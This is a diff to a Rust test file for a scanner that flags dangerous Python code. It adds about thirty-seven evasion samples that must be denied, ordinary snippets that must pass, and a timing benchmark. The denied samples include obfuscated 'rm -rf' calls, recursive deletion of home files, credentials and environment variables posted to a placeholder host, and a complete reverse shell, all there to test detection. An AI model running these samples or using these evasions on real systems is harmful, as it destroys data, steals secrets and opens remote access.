@@ -421,3 +421,184 @@ fn scripts_that_destroy_are_denied() {
         assert!(denied(text, language), "{text} {:?}", found(text, language));
     }
 }
+
+#[test]
+fn evasions_in_python_are_denied() {
+    let mut wrong = Vec::new();
+    for text in [
+        "import os\nif x:\n    f = os.system\nelse:\n    f = print\nf('rm -rf /srv')",
+        "import os\nclass A:\n    def __init__(self, c):\n        self.c = c\n    def go(self):\n        os.system(self.c)\nA('rm -rf /srv').go()",
+        "def outer():\n    import os\n    def inner(c):\n        os.system(c)\n    return inner\nouter()('rm -rf /srv')",
+        "import os\ncmd = ['rm', '-rf']\ncmd.append('/srv')\nos.execvp(cmd[0], cmd)",
+        "import subprocess\ncmd = []\ncmd += ['rm', '-rf', '/srv']\nsubprocess.run(cmd)",
+        "import subprocess, shlex\nsubprocess.run(shlex.split('rm -rf /srv'))",
+        "import threading, os\nthreading.Thread(target=os.system, args=('rm -rf /srv',)).start()",
+        "import atexit, os\natexit.register(os.system, 'rm -rf /srv')",
+        "import os\ndef deco(f):\n    os.system('rm -rf /srv')\n    return f\n@deco\ndef g(): pass",
+        "import os\nos.__dict__['sys' + 'tem']('rm -rf /srv')",
+        "import operator, os\noperator.methodcaller('system', 'rm -rf /srv')(os)",
+        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgncm0gLXJmIC9zcnYnKQ=='))",
+        "__import__(''.join(chr(c) for c in [111, 115])).system('rm -rf /srv')",
+        "__import__('so'[::-1]).system('rm -rf /srv')",
+        "import importlib\nimportlib.import_module('o' + 's').system('%s -rf %s' % ('rm', '/srv'))",
+        "(lambda f: f('rm -rf /srv'))(__import__('os').system)",
+        "import os\n[os.system(c) for c in ['rm -rf /srv']]",
+        "import os\nx = 'rm -rf {}'.format('/srv')\nos.system(x)",
+        "import shutil\nfor p in ['/srv', '/opt']:\n    shutil.rmtree(p)",
+        "import pathlib\nfor p in pathlib.Path.home().iterdir():\n    p.unlink()",
+        "import os\nwith open(os.path.expanduser('~/.aws/credentials')) as f:\n    d = f.read()\nimport requests\nrequests.post('https://x.example', data={'d': d})",
+        "import os, json, urllib.request as u\nr = u.Request('https://x.example', data=json.dumps(dict(os.environ)).encode())\nu.urlopen(r)",
+        "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('203.0.113.7',4444));os.dup2(s.fileno(),0);p=subprocess.call(['/bin/sh','-i'])",
+        "%%bash\nrm -rf /srv",
+        "x = !rm -rf /srv",
+        "%sx rm -rf /srv",
+        "get_ipython().system('rm -rf /srv')",
+        "print 'x'\nimport os\nos.system('rm -rf /srv')",
+        "import os\nos.system('rm -rf /srv'\nprint(1)",
+        "import os\nmatch 1:\n    case _:\n        os.system('rm -rf /srv')",
+        "import asyncio\nasync def m():\n    p = await asyncio.create_subprocess_shell('rm -rf /srv')\nasyncio.run(m())",
+        "cursor.execute('DELETE FROM users')",
+        "engine.connect().execute(text('TRUNCATE TABLE users'))",
+        "import os; (os.system if 1 else print)('rm -rf /srv')",
+        "import os\nt = (os.system,)\nt[0]('rm -rf /srv')",
+        "import os\nd = {'f': os.system}\nd['f']('rm -rf /srv')",
+        "import os\nsetattr(__builtins__, 'x', os.system)\nos.system('rm -rf ' + '/srv')",
+    ] {
+        if !denied(text, Language::Python) {
+            wrong.push(format!("{text}\n{:?}", found(text, Language::Python)));
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n\n"));
+}
+
+#[test]
+fn ordinary_python_is_silent() {
+    let mut wrong = Vec::new();
+    for text in [
+        "import re\nm = re.compile('x').match('x')\nprint(m.group())",
+        "for line in open('a.txt'):\n    print(line.strip())",
+        "import json\nwith open('a.json') as f:\n    d = json.load(f)\nprint(d['a'])",
+        "class Q:\n    def execute(self, sql): return sql\nQ().execute('DROP TABLE x')",
+        "import numpy as np\nprint(np.array([1]).sum())",
+        "import torch\nm = torch.nn.Linear(1, 1)\nm.eval()\nm.compile()",
+        "x = {'a': 1}\nx.pop('a')\nx.update(b=2)\nx.clear()",
+        "s = 'os.system(\"rm -rf /\")'\nprint(s)",
+        "# import os; os.system('rm -rf /')\nprint(1)",
+        "from pathlib import Path\nfor p in Path('src').rglob('*.py'):\n    print(p.read_text()[:10])",
+        "import os\nfor root, dirs, files in os.walk('.'):\n    print(root, len(files))",
+        "import os\nos.makedirs('out', exist_ok=True)\nprint(os.listdir('.'))",
+        "import sqlite3\nc = sqlite3.connect('a.db')\nc.execute('SELECT * FROM t WHERE id = ?', (1,))\nc.execute('DELETE FROM t WHERE id = ?', (1,))",
+        "import ast\nprint(ast.parse('x = 1'))",
+        "df.eval('a + b'); df.query('a > 1'); df.drop(columns=['a'])",
+        "import unittest\nclass T(unittest.TestCase):\n    def test_remove(self):\n        self.assertTrue(True)\nunittest.main()",
+        "import argparse\np = argparse.ArgumentParser()\np.add_argument('--exec')\nargs = p.parse_args([])\nprint(args.exec)",
+        "import functools\n@functools.lru_cache\ndef f(n): return n if n < 2 else f(n - 1) + f(n - 2)\nprint(f(9))",
+        "import collections\nd = collections.defaultdict(list)\nd['a'].append(1)",
+        "import logging\nlogging.info('removing %s', 'rm -rf /')",
+        "text = 'a' 'b' f'{1 + 1:>10}' + 'c' * 3\nprint(text)",
+        "import matplotlib.pyplot as plt\nplt.plot([1, 2]); plt.savefig('a.png')",
+        "with open('run.sh', 'w') as f:\n    f.write('#!/bin/sh\\nrm -rf build\\n')",
+        "import string\nstring.Template('$x').substitute(x=1)",
+        "%matplotlib inline\n%load_ext autoreload\nprint(1)",
+        "!ls -l\nprint(1)",
+        "%timeit sum(range(10))",
+        "import time\ntime.sleep(1)\nprint(time.time())",
+        "import zipfile\nzipfile.ZipFile('a.zip').namelist()",
+        "try:\n    pass\nexcept OSError as system:\n    print(system)",
+        "import sys\nprint(sys.version, sys.argv)",
+    ] {
+        let ids = found(text, Language::Python);
+        if stopped_by(&ids) {
+            wrong.push(format!("{text}\n{ids:?}"));
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n\n"));
+}
+
+/// Prints what the analysis costs: `cargo test --release … code_costs -- --ignored --nocapture`.
+#[test]
+#[ignore = "a measurement"]
+fn code_costs() {
+    let python = [
+        "(",
+        "[",
+        "-",
+        "a.b",
+        ".a",
+        "x=",
+        "f(",
+        "lambda:",
+        "a+",
+        "'a'+",
+        "f'{",
+        "@a\n",
+        "a,",
+        "x\n",
+        "!ls\n",
+        "if x:",
+        "'",
+        "eval(",
+        "a()",
+        "x[0]",
+        "print 'x'\n",
+        "os.system('x')\n",
+        "def f():\n    x\n",
+        "import a.",
+        "{**",
+        "x = x + x\n",
+        "[x for x in x]\n",
+    ];
+    let script = [
+        "(",
+        "[",
+        "{",
+        "f(",
+        "a.",
+        "a[",
+        "'",
+        "`${",
+        "/",
+        "a=",
+        "a+",
+        "new ",
+        "a=a+a;",
+        "x='a'+",
+        "a,",
+        "require('",
+        "f(a)",
+        "system 'ls';",
+        "[a,",
+        "{a:",
+    ];
+    let snippets = [
+        "import os; os.system('whoami')",
+        "import json\nwith open('a.json') as f:\n    d = json.load(f)\nprint(d['a'])",
+        "import subprocess\nsubprocess.run(['rm', '-rf', '/'])",
+    ];
+    for text in snippets {
+        let start = std::time::Instant::now();
+        for _ in 0..1_000 {
+            found(text, Language::Python);
+        }
+        println!("{:8.1} µs {text:?}", start.elapsed().as_secs_f64() * 1e3);
+    }
+    for (language, pieces) in [
+        (Language::Python, python.as_slice()),
+        (Language::JavaScript, script.as_slice()),
+        (Language::Perl, script.as_slice()),
+    ] {
+        let mut worst: Vec<(f64, &str)> = pieces
+            .iter()
+            .map(|piece| {
+                let text = piece.repeat(250_000 / piece.len());
+                let start = std::time::Instant::now();
+                found(&text, language);
+                (start.elapsed().as_secs_f64() * 1e3, *piece)
+            })
+            .collect();
+        worst.sort_by(|a, b| b.0.total_cmp(&a.0));
+        for (ms, piece) in worst.iter().take(6) {
+            println!("{ms:8.1} ms 250 KB of {piece:?} ({language:?})");
+        }
+    }
+}
